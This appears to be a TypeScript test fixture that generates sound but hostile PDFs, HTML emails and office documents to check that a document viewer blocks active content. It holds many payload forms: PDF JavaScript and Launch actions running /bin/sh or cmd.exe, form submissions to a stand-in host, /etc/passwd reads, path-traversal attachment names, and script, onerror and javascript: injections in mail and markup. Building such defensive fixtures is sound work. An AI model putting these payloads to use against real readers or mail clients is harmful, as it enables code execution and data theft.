// Hostile files that are sound: PDFs with actions, mails and documents full of ways out. A reader that only trips over broken files is not proven by these.
import { zipSync } from 'fflate'
import { type HostileFile, text } from './evidence-hostile-pictures.ts'
import { aDocx, anOdt, anXlsx, aParagraph, RELATIONS } from './office-files.ts'

const FAR = 'http://203.0.113.8/far'

/** A PDF of one page from its objects after the page (number 4 on), with more in its catalogue and its page. */
function aPdf({
  catalogue = '',
  page = '',
  objects = [],
}: {
  catalogue?: string
  page?: string
  objects?: string[]
}): Uint8Array {
  const content = 'BT /F1 18 Tf 20 100 Td (Words of the page) Tj ET'
  const all = [
    `<</Type/Catalog/Pages 2 0 R${catalogue}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>${page}>>`,
    `<</Length ${content.length}>>stream\n${content}\nendstream`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    ...objects,
  ]
  let file = '%PDF-1.7\n'
  const places = all.map((object, index) => {
    const at = file.length
    file += `${index + 1} 0 obj\n${object}\nendobj\n`
    return `${String(at).padStart(10, '0')} 00000 n \n`
  })
  const size = all.length + 1
  return text(
    `${file}xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}trailer<</Size ${size}/Root 1 0 R>>\nstartxref\n${file.length}\n%%EOF`,
  )
}
const js = (code: string) => `<</S/JavaScript/JS(${code})>>`
const overPage = (action: string, more = '') =>
  `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/Border[0 0 0]/A ${action}${more}>>]`

function pdfs(): HostileFile[] {
  const run = js('top.ran = true; app.alert\\(1\\); this.submitForm\\("http://203.0.113.8/"\\)')
  const font =
    '<</Type/Font/Subtype/Type1/BaseFont/Mean/FirstChar 32/LastChar 33/Widths[500 500]/FontMatrix[0.001 0 0 0.001 0 (0\\);top.ran = true//)]/FontDescriptor 7 0 R>>'
  const made: [string, Uint8Array][] = [
    ['open-action.pdf', aPdf({ catalogue: `/OpenAction ${run}` })],
    ['names-script.pdf', aPdf({ catalogue: `/Names<</JavaScript<</Names[(a) ${run}]>>>>` })],
    ['page-action.pdf', aPdf({ page: `/AA<</O ${run}/C ${run}>>` })],
    ['close-action.pdf', aPdf({ catalogue: `/AA<</WC ${run}/WS ${run}/DP ${run}>>` })],
    ['launch.pdf', aPdf({ catalogue: '/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>' })],
    ['link-launch.pdf', aPdf({ page: overPage('<</S/Launch/F(/bin/sh)>>') })],
    ['link-far.pdf', aPdf({ page: overPage(`<</S/URI/URI(${FAR})>>`) })],
    ['link-script.pdf', aPdf({ page: overPage('<</S/URI/URI(javascript:top.ran=true)>>') })],
    ['link-file.pdf', aPdf({ page: overPage('<</S/URI/URI(file:///etc/passwd)>>') })],
    ['open-far.pdf', aPdf({ catalogue: `/OpenAction<</S/URI/URI(${FAR})>>` })],
    ['go-to-far.pdf', aPdf({ page: overPage('<</S/GoToR/F(\\\\\\\\203.0.113.8\\\\share\\\\x.pdf)/D[0/Fit]>>') })],
    ['submit.pdf', aPdf({ catalogue: `/OpenAction<</S/SubmitForm/F<</FS/URL/F(${FAR})>>/Flags 4>>` })],
    ['import-data.pdf', aPdf({ catalogue: '/OpenAction<</S/ImportData/F(/etc/passwd)>>' })],
    [
      'form.pdf',
      aPdf({
        catalogue: '/AcroForm<</Fields[6 0 R]/NeedAppearances true>>',
        page: '/Annots[6 0 R]',
        objects: [
          `<</Type/Annot/Subtype/Widget/FT/Tx/T(x)/V(<b onclick=top.ran=true>)/Rect[0 0 90 20]/AA<</K ${run}/F ${run}>>>>`,
        ],
      }),
    ],
    [
      'xfa.pdf',
      aPdf({
        catalogue: '/NeedsRendering true/AcroForm<</XFA 6 0 R>>',
        objects: [
          '<</Length 92>>stream\n<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>top.ran = true</script></xdp:xdp>  \nendstream',
        ],
      }),
    ],
    [
      'mean-font.pdf',
      aPdf({
        page: '/Resources<</Font<</F1 6 0 R>>>>',
        objects: [font, '<</Type/FontDescriptor/FontName/Mean/Flags 4>>'],
      }),
    ],
    [
      'far-picture.pdf',
      aPdf({
        objects: [
          `<</Type/XObject/Subtype/Image/Width 1/Height 1/F<</FS/URL/F(${FAR})>>/Length 0>>stream\n\nendstream`,
        ],
      }),
    ],
    [
      'attached.pdf',
      aPdf({
        catalogue: '/Names<</EmbeddedFiles<</Names[(../../climbed.exe) 6 0 R]>>>>',
        objects: ['<</Type/Filespec/F(../../climbed.exe)/EF<</F 7 0 R>>>>', '<</Length 2>>stream\nMZ\nendstream'],
      }),
    ],
    [
      'circle.pdf',
      aPdf({
        catalogue: '/Outlines 6 0 R',
        objects: ['<</First 6 0 R/Last 6 0 R/Next 6 0 R/Title(<img src=x onerror=top.ran=true>)>>'],
      }),
    ],
    ['vast-page.pdf', aPdf({ page: '/MediaBox[0 0 9999999 9999999]/UserUnit 75000' })],
  ]
  return made.map(([name, bytes]) => ({ name, bytes }))
}

function mails(): HostileFile[] {
  const bodies: Record<string, string> = {
    'script.eml': '<script>top.ran = true</script><p onclick="top.ran=true">Words</p>',
    'refresh.eml': `<meta http-equiv="refresh" content="0;url=${FAR}"><base href="${FAR}"><p>Words</p>`,
    'frame.eml': `<iframe src="${FAR}" srcdoc="<script>top.ran=true</script>"></iframe><object data="${FAR}"></object><embed src="${FAR}">Words`,
    'form.eml': `<form action="${FAR}" target="_top"><input autofocus onfocus="top.ran=true"><button>Words</button></form>`,
    'style.eml': `<style>@import "${FAR}"; p { background: url(${FAR}) }</style><link rel="stylesheet" href="${FAR}"><p>Words</p>`,
    'svg.eml': `<svg onload="top.ran=true"><image href="${FAR}"/><script>top.ran=true</script></svg><math><mtext></mtext></math>Words`,
    'link.eml':
      '<a href="javascript:top.ran=true" target="_top">Words</a><a href="file:///etc/passwd">more</a><a href="ms-settings:">more</a>',
    'media.eml': `<video src="${FAR}" poster="${FAR}" autoplay></video><audio src="${FAR}" autoplay></audio><img srcset="${FAR} 2x">Words`,
    'mutated.eml':
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.ran=true&gt;">Words',
  }
  return Object.entries(bodies).map(([name, body]) => ({
    name,
    bytes: text(
      `From: a@example.org\r\nTo: b@example.org\r\nSubject: ${name}\r\nContent-Type: text/html\r\n\r\n${body}`,
    ),
  }))
}

function documents(): HostileFile[] {
  const linked = (target: string) =>
    aDocx(
      `<w:p><w:hyperlink r:id="r9" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:r><w:t>Words</w:t></w:r></w:hyperlink></w:p>`,
      {
        'word/_rels/document.xml.rels': RELATIONS.replace(
          /<Relationship .*\/>/,
          `<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="${target}" TargetMode="External"/>`,
        ),
      },
    )
  return [
    { name: 'link-script.docx', bytes: linked('javascript:top.ran=true') },
    { name: 'link-far.docx', bytes: linked(FAR) },
    { name: 'link-file.docx', bytes: linked('file:///etc/passwd') },
    { name: 'macro.docm', bytes: aDocx(aParagraph('Words'), { 'word/vbaProject.bin': 'Attribute VB_Name' }) },
    {
      name: 'link-script.odt',
      bytes: anOdt('<text:p><text:a xlink:href="javascript:top.ran=true">Words</text:a></text:p>'),
    },
    {
      name: 'event.odt',
      bytes: anOdt(
        '<office:scripts/><text:p onclick="top.ran=true">Words &lt;img src=x onerror=top.ran=true&gt;</text:p>',
      ),
    },
    {
      name: 'link.xlsx',
      bytes: anXlsx(
        `<row r="1"><c r="A1" t="str"><f>HYPERLINK("${FAR}","x")</f><v>&lt;img src=x onerror=top.ran=true&gt;</v></c></row>`,
      ),
    },
    { name: 'markup.csv', bytes: text(`"<img src=x onerror=top.ran=true>","=HYPERLINK(""${FAR}"")"\n`) },
    {
      name: 'markup.md',
      bytes: text(`<script>top.ran = true</script>\n[Words](javascript:top.ran=true) ![x](${FAR})\n`),
    },
    {
      name: 'page.xhtml',
      bytes: text('<html xmlns="http://www.w3.org/1999/xhtml"><script>top.ran = true</script><p>Words</p></html>'),
    },
    {
      name: 'page.mht',
      bytes: text(
        `MIME-Version: 1.0\r\nContent-Type: text/html\r\nContent-Location: ${FAR}\r\n\r\n<script>top.ran=true</script>`,
      ),
    },
    {
      name: 'streams.zip',
      bytes: zipSync({ 'a.txt:hidden': text('x'), '/etc/absolute': text('x'), 'C:\\x': text('x') }),
    },
  ]
}

/** Sound files with ways out, each with bytes of its own. */
export const activeFiles = (): HostileFile[] => [...pdfs(), ...mails(), ...documents()]
